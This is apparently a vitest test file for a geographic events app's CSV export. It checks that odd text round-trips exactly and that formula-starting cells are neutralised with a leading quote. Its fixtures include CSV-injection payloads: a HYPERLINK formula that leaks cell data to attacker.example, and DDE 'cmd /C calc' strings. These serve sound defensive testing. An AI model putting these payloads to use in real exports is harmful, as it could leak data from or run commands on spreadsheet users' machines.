/**
 * The CSV export read back with a different CSV implementation (csv-parse) than the one that
 * writes it (papaparse): every event comes back with the same fields, awkward text included, and
 * text that a spreadsheet would run as a formula comes back with a `'` in front.
 */
import path from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { eventsAnswer } from "@/app/_server/api";
import { eventsCollection } from "@/geo/api";
import { CSV_COLUMNS, csvRows, toCsv, type ExportContext } from "@/geo/export";
import type { EventFeature } from "@/geo/join";
import { readRawDataset } from "@/geo/load";
import type { Dataset } from "@/geo/validate";
import { validateDataset } from "@/geo/validate";

const { dataset } = validateDataset(readRawDataset());

function contextOf(data: Dataset): ExportContext {
  return { actors: data.actors, places: data.places, sources: new Map(data.stories.map((s) => [s.id, s.source])) };
}

function allFeatures(data: Dataset = dataset): EventFeature[] {
  const result = eventsCollection(data, new URLSearchParams());
  if (result.status !== 200) throw new Error(JSON.stringify(result.body));
  return result.body.features;
}

type Row = Record<string, string>;

/** Strict RFC 4180 parsing: a header row, every row as long as it, nothing trimmed or cast. */
function readCsv(text: string): Row[] {
  return parse(text, { columns: true, bom: true, relax_column_count: false, skip_empty_lines: false }) as Row[];
}

/** The citations of a feature that came from outside the article. */
function citationsOf(f: EventFeature) {
  const p = f.properties;
  return [p.provenance, p.placeProvenance, p.dateProvenance].flatMap((x) => (x.kind === "context" ? [x.citation] : []));
}

/** Asserts that a CSV row carries exactly the feature's fields. */
function expectRowOf(row: Row | undefined, f: EventFeature, data: Dataset = dataset) {
  const p = f.properties;
  const [lng, lat] = f.geometry.coordinates;
  const name = `${p.eventId}@${p.placeId}`;
  expect(row, name).toBeDefined();
  if (!row) return;
  expect(
    {
      event_id: row.event_id,
      event_date: row.event_date,
      location: row.location,
      notes: row.notes,
      quote: row.quote,
      title: row.title,
      place_id: row.place_id,
      date: row.date,
      date_end: row.date_end,
      actors: row.actors?.split(";"),
      source: row.source,
    },
    name,
  ).toEqual({
    event_id: p.eventId,
    event_date: p.start,
    location: p.placeName,
    notes: p.summary,
    quote: p.quote,
    title: p.title,
    place_id: p.placeId,
    date: p.date,
    date_end: p.end,
    actors: p.actors,
    source: data.stories.find((s) => s.id === p.story)?.source,
  });
  // Numbers as numbers, equal to the GeoJSON's [longitude, latitude].
  expect(Number(row.latitude), `${name} latitude`).toBe(lat);
  expect(Number(row.longitude), `${name} longitude`).toBe(lng);
  const citations = citationsOf(f);
  if (citations.length === 0) expect(row.provenance, `${name} provenance`).toBe("article");
  else {
    expect(row.provenance, `${name} provenance`).toMatch(/^context: /);
    for (const c of citations) {
      expect(row.provenance, `${name} cites ${c.url}`).toContain(c.url);
      expect(row.provenance, `${name} cites ${c.title}`).toContain(c.title);
    }
  }
  const actorNames = p.actors.map((id) => data.actors.find((a) => a.id === id)?.name);
  expect([row.actor1, row.actor2], `${name} actors`).toEqual([actorNames[0] ?? "", actorNames[1] ?? ""]);
}

/** Text that a naive CSV writer or reader breaks: separators, quotes, line ends, non-ASCII, edges. */
const AWKWARD = {
  title: 'Talks, "frank" and long,\r\nthen a statement',
  summary: 'Line one\nline two, with "quotes" and a comma,\n\n  indented; and a trailing space ',
  quote: '"Он сказал: «да»", 他说 — مرحبا 🚀🇸🇾, e\u0301 and a tab\there',
  placeName: 'Ḥalab, "Aleppo"\nحلب',
  eventId: "awkward-event",
};

function awkwardFeature(): EventFeature {
  const base = allFeatures()[0];
  if (!base) throw new Error("no features");
  const f = structuredClone(base);
  Object.assign(f.properties, AWKWARD);
  f.id = `${AWKWARD.eventId}@${f.properties.placeId}`;
  return f;
}

/** A cell starting with one of these is a formula to a spreadsheet (OWASP, "CSV Injection"). */
const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];

/** The columns that hold numbers; every other column is text. */
const NUMBER_COLUMNS: ReadonlySet<string> = new Set(["time_precision", "latitude", "longitude", "geo_precision"]);
const TEXT_COLUMNS = CSV_COLUMNS.filter((column) => !NUMBER_COLUMNS.has(column));

/** What the file must hold for a text value: the value, after a `'` if it starts a formula. */
const neutralised = (value: string) => (FORMULA_STARTS.some((c) => value.startsWith(c)) ? `'${value}` : value);

/** A formula for each start character, in order, with commas, quotes, line breaks and non-ASCII. */
const FORMULAS = [
  '=HYPERLINK("https://attacker.example/?leak="&A1,"Détails")',
  "+cmd|' /C calc'!A0, «приказ»",
  "-2+3+cmd|' /C calc'!A0\n\"حلب\", second line",
  "@SUM(1+1)*cmd|' /C calc'!A0 他说",
  '\t=1+1, a "tab" first 🚀',
  "\r\n=1+1\r\nafter a CR LF, Ḥalab",
];
const formula = (i: number, what: string) => `${FORMULAS[i % FORMULAS.length]} ${what}`;

/**
 * The first feature with a formula at the start of every text column, each start character in
 * turn (ids, dates and the place role too, which validation would reject: the export must not rely
 * on it), placed south-west of 0°, 0°; and the context with its actors and source besides the real
 * ones. `cells` is what each text column holds before it is written; provenance starts "context: ".
 */
function formulaExport() {
  const f = structuredClone(allFeatures()[0]!);
  const actorIds = [formula(0, "actor id"), formula(1, "second actor id")];
  const cells = {
    event_id: formula(2, "event id"),
    event_date: formula(3, "start"),
    actor1: formula(4, "actor name"),
    actor2: formula(5, "second actor name"),
    location: formula(0, "place name"),
    notes: formula(1, "summary"),
    source: formula(2, "source"),
    quote: formula(3, "quote"),
    date: formula(4, "date"),
    date_end: formula(5, "end"),
    actors: actorIds.join(";"),
    place_id: formula(0, "place id"),
    place_role: formula(1, "place role"),
    title: formula(2, "title"),
  };
  const citation = { title: formula(3, "citation title"), publisher: formula(4, "publisher"), url: "https://example.org/?q==1+1" };
  Object.assign(f.properties, {
    eventId: cells.event_id,
    start: cells.event_date,
    placeName: cells.location,
    summary: cells.notes,
    story: "formula-story",
    quote: cells.quote,
    date: cells.date,
    end: cells.date_end,
    actors: actorIds,
    placeId: cells.place_id,
    placeRole: cells.place_role,
    title: cells.title,
    provenance: { kind: "context", citation },
  });
  f.id = `${cells.event_id}@${cells.place_id}`;
  f.geometry.coordinates = [-3.5, -33.865143];
  const [actor] = dataset.actors;
  const context: ExportContext = {
    ...contextOf(dataset),
    actors: [...dataset.actors, { ...actor!, id: actorIds[0]!, name: cells.actor1 }, { ...actor!, id: actorIds[1]!, name: cells.actor2 }],
    sources: new Map([...contextOf(dataset).sources, ["formula-story", cells.source]]),
  };
  return { feature: f, context, cells, citation };
}

/** Asserts, cell by cell, that the file holds every row csvRows makes: text neutralised, numbers as they are. */
function expectNeutralised(rows: Row[], features: readonly EventFeature[], context: ExportContext) {
  const expected = csvRows(features, context);
  expect(rows).toHaveLength(expected.length);
  expected.forEach((values, i) => {
    for (const column of CSV_COLUMNS) {
      const cell = rows[i]?.[column];
      const value = values[column];
      if (NUMBER_COLUMNS.has(column)) {
        expect(typeof value, `row ${i} ${column} is a number`).toBe("number");
        expect(cell, `row ${i} ${column}`).toBe(String(value));
        expect(Number(cell), `row ${i} ${column} parses as the number`).toBe(value);
      } else {
        expect(cell, `row ${i} ${column}`).toBe(neutralised(String(value)));
      }
    }
  });
}

describe("toCsv", () => {
  const features = allFeatures();
  const csv = toCsv(features, contextOf(dataset));

  it("starts with a header row equal to CSV_COLUMNS and ends rows with CRLF", () => {
    const [header] = parse(csv, { to_line: 1 }) as string[][];
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(csv.startsWith(`${CSV_COLUMNS.join(",")}\r\n`)).toBe(true);
  });

  it("gives back every (event, place) pair with the same fields", () => {
    const rows = readCsv(csv);
    expect(rows).toHaveLength(features.length);
    expect(new Set(rows.map((r) => r.event_id))).toEqual(new Set(dataset.events.map((e) => e.id)));
    features.forEach((f, i) => expectRowOf(rows[i], f));
  });

  it("round-trips commas, double quotes, line breaks and non-ASCII text exactly", () => {
    const f = awkwardFeature();
    const rows = readCsv(toCsv([f, ...features], contextOf(dataset)));
    expect(rows).toHaveLength(features.length + 1);
    expectRowOf(rows[0], f);
    expect(rows[0]?.title).toBe(AWKWARD.title);
    expect(rows[0]?.notes).toBe(AWKWARD.summary);
    expect(rows[0]?.quote).toBe(AWKWARD.quote);
    expect(rows[0]?.location).toBe(AWKWARD.placeName);
    expectRowOf(rows[1], features[0]!);
  });

  it("prefixes every text cell that starts with =, +, -, @, a tab or a CR with ', and changes nothing else", () => {
    const { feature, context, cells, citation } = formulaExport();
    expect(Object.keys(cells).sort(), "every text column but provenance has a formula").toEqual(
      TEXT_COLUMNS.filter((c) => c !== "provenance").sort(),
    );
    const csv = toCsv([feature, ...features], context);
    const rows = readCsv(csv);
    expect(rows).toHaveLength(features.length + 1);
    const row = rows[0]!;
    for (const [column, value] of Object.entries(cells)) expect(row[column], column).toBe(`'${value}`);
    // Starts with "context: ", so no formula; the citation inside is as it was.
    expect(row.provenance).toBe(`context: event: ${citation.title} (${citation.publisher}) ${citation.url}`);
    // A negative latitude and longitude stay numbers: unprefixed, and not even quoted.
    expect([row.latitude, row.longitude]).toEqual(["-33.865143", "-3.5"]);
    expect([Number(row.latitude), Number(row.longitude)]).toEqual([-33.865143, -3.5]);
    expect(csv).toContain(",-33.865143,-3.5,");
    features.forEach((f, i) => expectRowOf(rows[i + 1], f));
  });

  it("leaves text alone that only looks like a formula further in, and numbers at 0 or -180", () => {
    const lookalikes = [" =1+1", "'=1+1", 'a=b, "c"', "2020-01-07", "Ḥalab\n=1+1", "(-1)", "1e-7"];
    const unchanged = lookalikes.map((text, i) => {
      const f = structuredClone(features[0]!);
      Object.assign(f.properties, { title: text, summary: text, quote: text, placeName: text, eventId: `lookalike-${i}` });
      f.id = `lookalike-${i}@${f.properties.placeId}`;
      f.geometry.coordinates = i % 2 === 0 ? [-179.999999, 0] : [0, -90];
      return f;
    });
    const { feature, context } = formulaExport();
    const all = [...unchanged, feature, ...features];
    const rows = readCsv(toCsv(all, context));
    lookalikes.forEach((text, i) => {
      for (const column of ["title", "notes", "quote", "location"]) expect(rows[i]?.[column], `${text} in ${column}`).toBe(text);
    });
    expectNeutralised(rows, all, context);
  });

  it("exports no rows but the header for no features", () => {
    const rows = parse(toCsv([], contextOf(dataset))) as string[][];
    expect(rows).toEqual([[...CSV_COLUMNS]]);
  });
});

describe("GET /api/events?format=csv", () => {
  it("is text/csv, named as a file, and holds the same events as the GeoJSON", () => {
    const answer = eventsAnswer(dataset, new URLSearchParams("format=csv"));
    expect(answer.status).toBe(200);
    expect(answer.headers["Content-Type"]).toMatch(/^text\/csv\b/);
    expect(answer.headers["Content-Type"]).toMatch(/charset=utf-8/i);
    expect(answer.headers["Content-Disposition"]).toMatch(/filename="?[^";]+\.csv"?/);
    const rows = readCsv(answer.body);
    const features = allFeatures();
    expect(rows).toHaveLength(features.length);
    features.forEach((f, i) => expectRowOf(rows[i], f));
  });

  it("applies the filters, as the GeoJSON does", () => {
    for (const query of ["actors=iran", "from=2020-01-07&to=2020-01-08", "place=damascus", "actors=usa,rebels&from=2011"]) {
      const csv = eventsAnswer(dataset, new URLSearchParams(`${query}&format=csv`));
      const geo = eventsAnswer(dataset, new URLSearchParams(query));
      if (geo.status !== 200) {
        expect(csv.status, query).toBe(geo.status);
        continue;
      }
      const features = (JSON.parse(geo.body) as { features: EventFeature[] }).features;
      expect(features.length, query).toBeGreaterThan(0);
      const rows = readCsv(csv.body);
      expect(
        rows.map((r) => `${r.event_id}@${r.place_id}`),
        query,
      ).toEqual(features.map((f) => f.id));
    }
  });

  it("carries awkward text from the data files through to the file exactly", () => {
    const data = structuredClone(dataset);
    const event = data.events[0]!;
    Object.assign(event, { title: AWKWARD.title, summary: AWKWARD.summary });
    event.quote!.text = AWKWARD.quote;
    const place = data.places.find((p) => p.id === event.places[0]!.place)!;
    place.properties.name = AWKWARD.placeName;
    data.stories[0]!.source = 'Wire, "supplied",\nverbatim';
    const answer = eventsAnswer(data, new URLSearchParams("format=csv"));
    const rows = readCsv(answer.body);
    const features = allFeatures(data);
    expect(rows).toHaveLength(features.length);
    features.forEach((f, i) => expectRowOf(rows[i], f, data));
    expect(rows.find((r) => r.event_id === event.id)?.quote).toBe(AWKWARD.quote);
  });

  it("neutralises formulas from the data files, and keeps negative coordinates as numbers", () => {
    const data = structuredClone(dataset);
    data.events.forEach((event, i) => {
      Object.assign(event, { title: formula(i, "title"), summary: formula(i + 1, "summary") });
      event.quote!.text = formula(i + 2, "quote");
    });
    data.places.forEach((place, i) => {
      place.properties.name = formula(i + 3, "place");
      const [lng = 0, lat = 0] = place.geometry.coordinates;
      place.geometry.coordinates = [-Math.abs(lng), -Math.abs(lat)];
    });
    data.actors.forEach((actor, i) => (actor.name = formula(i + 4, "actor")));
    data.stories.forEach((story, i) => (story.source = formula(i + 5, "source")));
    const answer = eventsAnswer(data, new URLSearchParams("format=csv"));
    expect(answer.status).toBe(200);
    const rows = readCsv(answer.body);
    const features = allFeatures(data);
    expect(rows).toHaveLength(features.length);
    features.forEach((f, i) => {
      const row = rows[i]!;
      const p = f.properties;
      const name = f.id;
      expect([row.title, row.notes, row.quote, row.location, row.source], name).toEqual(
        [p.title, p.summary, p.quote, p.placeName, data.stories.find((s) => s.id === p.story)?.source].map((v) => `'${v}`),
      );
      expect(row.actor1, name).toMatch(/^'[=+\-@\t\r]/);
      const [lng, lat] = f.geometry.coordinates;
      expect(lng! < 0 && lat! < 0, `${name} lies south-west of 0°, 0°`).toBe(true);
      expect([Number(row.longitude), Number(row.latitude)], name).toEqual([lng, lat]);
      expect([row.longitude, row.latitude], name).toEqual([String(lng), String(lat)]);
    });
    expectNeutralised(rows, features, contextOf(data));
  });

  it("neutralises the formulas in the hostile fixture data (tests/fixtures/hostile)", () => {
    const hostile = validateDataset(readRawDataset(path.join("tests", "fixtures", "hostile"))).dataset;
    const rows = readCsv(eventsAnswer(hostile, new URLSearchParams("format=csv")).body);
    const features = allFeatures(hostile);
    expect(features.length).toBeGreaterThan(0);
    expectNeutralised(rows, features, contextOf(hostile));
    // The fixture starts every title, summary, place and actor name with a formula (generate.mjs).
    for (const column of ["title", "notes", "location", "actor1"]) {
      expect(
        rows.filter((r) => !/^'[=+\-@]/.test(r[column] ?? "")).map((r) => r[column]),
        `${column} cells without a neutralised formula`,
      ).toEqual([]);
    }
  });
});

describe("GET /api/events format", () => {
  it("is GeoJSON by default and with format=geojson, named as a .geojson file", () => {
    for (const query of ["", "format=geojson"]) {
      const answer = eventsAnswer(dataset, new URLSearchParams(query));
      expect(answer.status, query).toBe(200);
      expect(answer.headers["Content-Type"], query).toMatch(/^application\/geo\+json\b/);
      expect(answer.headers["Content-Disposition"], query).toMatch(/filename="?[^";]+\.geojson"?/);
      expect(JSON.parse(answer.body), query).toEqual(eventsCollection(dataset, new URLSearchParams()).body);
    }
  });

  it.each(["format=xml", "format=", "format=CSV", "format=csv&format=geojson", "format=csv&format=csv", "format=%00"])(
    "%s is a 400 JSON error naming format",
    (query) => {
      const answer = eventsAnswer(dataset, new URLSearchParams(query));
      expect(answer.status).toBe(400);
      expect(answer.headers["Content-Type"]).toMatch(/^application\/json\b/);
      const body = JSON.parse(answer.body) as { error: { code: string; message: string } };
      expect(body.error.code).toEqual(expect.any(String));
      expect(body.error.message).toMatch(/\bformat\b/);
    },
  );

  it("names the bad filter parameter in a 400 for the CSV too", () => {
    const answer = eventsAnswer(dataset, new URLSearchParams("format=csv&actors=martians"));
    expect(answer.status).toBe(400);
    expect((JSON.parse(answer.body) as { error: { message: string } }).error.message).toMatch(/\bactors\b/);
  });
});
